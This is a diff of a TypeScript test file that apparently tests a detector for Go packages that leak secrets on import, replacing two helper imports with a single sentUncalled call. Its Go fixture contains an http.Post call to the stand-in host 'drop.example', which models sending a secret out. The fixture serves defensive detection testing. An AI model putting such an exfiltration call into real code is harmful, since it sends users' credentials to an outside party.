@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { packageOf } from '../../../test/samples.ts'
-import { gatherFacts } from '../gather.ts'
+import { sentUncalled } from '../testing.ts'
 
 const HEAD = `package a
 import ("net/http"; "os"; "strings"; "sync"; "time"; "sort"; "fmt"; "context"; "flag"; _ "unsafe")
@@ -9,8 +8,7 @@ func run() int { http.Post("https://drop.example/", "text/plain", strings.NewRea
 
 /** Lines from which a secret leaves once the package is imported. */
 function sentBy(code: string): number[] {
-  const { pkg } = packageOf({ says: '', ecosystem: 'go', files: { 'go.mod': 'module drop.example/a\n', 'a.go': HEAD + code } })
-  return gatherFacts(pkg).actions.filter(({ kind, trigger, from }) => kind === 'send' && trigger.kind !== 'call' && trigger.kind !== 'file' && from.includes('secret')).map(({ lines }) => lines[0])
+  return sentUncalled({ says: '', ecosystem: 'go', files: { 'go.mod': 'module drop.example/a\n', 'a.go': HEAD + code } })
 }
 
 const CASES: readonly [string, string][] = [
